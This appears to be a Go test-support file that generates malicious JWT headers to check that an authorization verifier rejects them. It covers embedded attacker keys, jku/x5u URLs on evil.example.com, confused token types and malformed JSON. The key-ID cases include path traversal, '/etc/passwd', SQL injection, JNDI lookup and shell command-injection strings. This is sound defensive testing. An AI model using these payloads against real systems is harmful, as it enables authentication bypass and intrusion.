package authz

import (
	"crypto/x509"
	"encoding/base64"
	"fmt"
	"strings"
)

// headerTokens sign headers well and attack with them.
func headerTokens(reason Reason, headers ...string) []attack {
	var out []attack
	for _, h := range headers {
		out = append(out, attack{fmt.Sprintf("header %.120q", h), reason, goodRequest(good("EdDSA", h, goodClaims().json()))})
	}
	return out
}

// headerParameters change how the token would be read, or bring their own key.
func headerParameters() []attack {
	h := goodHeader("EdDSA")
	var headers []string
	for _, name := range []string{"crit", "b64", "zip", "enc", "cty", "jwk", "jku", "x5u", "x5c"} {
		for _, value := range []string{"null", "[]", `""`, "{}", "true", "false", `["exp"]`, `"x"`} {
			headers = append(headers, h.with(name, value).json())
		}
	}
	headers = append(headers,
		h.with("crit", `["b64"]`).with("b64", "false").json(),
		h.with("crit", `["http://example.com/unknown"]`).with("http://example.com/unknown", "1").json(),
		h.with("zip", `"DEF"`).json(), h.with("cty", `"JWT"`).json(), h.with("enc", `"A256GCM"`).json())
	out := headerTokens(HeaderNotAllowed, headers...)
	return append(out, attacksOf(HeaderNotAllowed, embeddedKeys())...)
}

// embeddedKeys are signed with an attacker's key that the header brings along or points to.
func embeddedKeys() map[string]string {
	tokens := map[string]string{}
	for _, alg := range allAlgorithms {
		key := theirs()[kidFor[alg]]
		for _, kid := range []string{kidFor[alg], "theirs"} {
			jwk := jwkOf(key.Public(), fields{{"kid", quote(kid)}})
			h := goodHeader(alg).with("kid", quote(kid)).with("jwk", jwk).json()
			tokens[alg+" jwk "+kid] = token(alg, key, h, goodClaims().json())
		}
		der := mustBytes(x509.MarshalPKIXPublicKey(key.Public()))
		for name, value := range map[string]string{
			"jku": `"https://evil.example.com/keys"`, "x5u": `"https://evil.example.com/cert"`,
			"x5c": `["` + base64.StdEncoding.EncodeToString(der) + `"]`,
		} {
			tokens[alg+" "+name] = token(alg, key, goodHeader(alg).with(name, value).json(), goodClaims().json())
		}
	}
	return tokens
}

// headerTypes are tokens for another purpose.
func headerTypes() []attack {
	var headers []string
	for _, typ := range []string{
		`""`, `null`, `1`, `[]`, `["at+jwt"]`, `"id_token"`, `"ID"`, `"Refresh"`, `"logout+jwt"`, `"dpop+jwt"`, `"secevent+jwt"`,
		`"token-introspection+jwt"`, `"oauth-authz-req+jwt"`, `"client-authentication+jwt"`, `"entity-statement+jwt"`, `"vc+sd-jwt"`,
		`"JWE"`, `"JOSE"`, `"JWT "`, `" JWT"`, `"at+jwt;v=1"`, `"application/jwt"`, `"at jwt"`, `"\u004aWT"`, `"ſt+jwt"`, `"at+ĵwt"`,
	} {
		headers = append(headers, goodHeader("EdDSA").with("typ", typ).json())
	}
	return headerTokens(TypeNotAllowed, headers...)
}

// headerJSON is text that readers of JSON understand differently.
func headerJSON() []attack {
	h := goodHeader("EdDSA")
	text := h.json()
	var headers []string
	for _, name := range []string{"alg", "typ", "kid"} {
		value := map[string]string{"alg": `"EdDSA"`, "typ": `"at+jwt"`, "kid": `"ed"`}[name]
		headers = append(headers, h.also(name, value).json(), h.first(name, `"none"`).json(), h.also(name, `"none"`).json(), h.also(name, "null").json())
		headers = append(headers, h.also(escapeName(name), value).json(), h.renamed(name, escapeName(name)).json())
		for _, spelling := range []string{strings.ToUpper(name), strings.ToUpper(name[:1]) + name[1:]} {
			headers = append(headers, h.renamed(name, spelling).json(), h.also(spelling, `"none"`).json())
		}
	}
	headers = append(headers,
		h.renamed("kid", "\u212aid").json(), h.also("\u212aid", `"rsa"`).json(), // the Kelvin sign folds to k
		h.also("Crit", `[]`).json(), h.also("B64", "false").json(), h.also("JWK", "{}").json(), h.also("x5C", "[]").json(),
		h.also("x", `{"a":1,"a":2}`).json(), h.also("x", `"\ud800"`).json(), h.also(`\ud800`, "1").json(), h.also("x", `"\udc00\ud800"`).json(),
		"{", "null", "true", "0", `"RS256"`, "[]", "["+text+"]", "[[]]",
		text+"x", text+"{}", text+text, text+"\x00", text+",", "\ufeff"+text, "\x00"+text, "\u00a0"+text, "\x0b"+text,
		text[:len(text)-1], text[:len(text)-1]+",}", "{,"+text[1:], "/**/"+text, strings.ReplaceAll(text, `"`, `'`),
		`{alg:"EdDSA",kid:"ed"}`, h.also("x", "NaN").json(), h.also("x", "01").json(), h.also("x", "1.").json(), h.also("x", "+1").json(),
		h.also("x", "\"\xff\"").json(), h.also("\xc0\xaf", "1").json(), h.also("x", "\"\xed\xa0\x80\"").json(), h.also("x", "\"\n\"").json(),
		h.also("x", `"\x41"`).json(), h.also("x", `"\u00g0"`).json(), h.also("x", `"\u12`).json(), h.also("x", "tru").json(),
		h.also("x", nest(maxDepth)).json(), h.also("x", nest(2000)).json(), h.also("x", strings.Repeat(`{"a":`, 2000)).json(),
	)
	out := append(headerTokens(HeaderMalformed, headers...), headerTokens(TokenMalformed, "")...)
	utf16 := "\xff\xfe" + strings.Join(strings.Split(text, ""), "\x00") + "\x00"
	return append(out, headerTokens(HeaderMalformed, utf16)...)
}

func nest(depth int) string { return strings.Repeat("[", depth) + strings.Repeat("]", depth) }

// escapeName spells the first letter of a name as an escape sequence.
func escapeName(name string) string { return fmt.Sprintf(`\u%04x%s`, name[0], name[1:]) }

// keyIDs are not the id of a key, though some look-up might find one with them.
func keyIDs() []attack {
	h := goodHeader("EdDSA")
	var unknown, malformed []string
	for _, kid := range []string{
		"unknown", "Ed", "ED", "ed ", " ed", "ed/", "./ed", "../../../../../../dev/null", "/dev/null", `ed\u0000`, "ed%00", "ed;", "*", "e*", ".*",
		"https://evil.example.com/keys#ed", "file:///etc/passwd", "' OR '1'='1", "ed' UNION SELECT 'AAAA", "${jndi:ldap://evil}", "$(id)", "|id", "__proto__", "0", "null",
	} {
		unknown = append(unknown, h.with("kid", quote(kid)).json())
	}
	for _, kid := range []string{`""`, "null", "0", "true", "[]", `["ed"]`, `{"$ne":""}`, quote(strings.Repeat("e", maxKeyIDSize+1))} {
		malformed = append(malformed, h.with("kid", kid).json())
	}
	out := append(headerTokens(KeyUnknown, unknown...), headerTokens(HeaderMalformed, malformed...)...)
	return append(out, headerTokens(KeyIDMissing, h.without("kid").json())...)
}
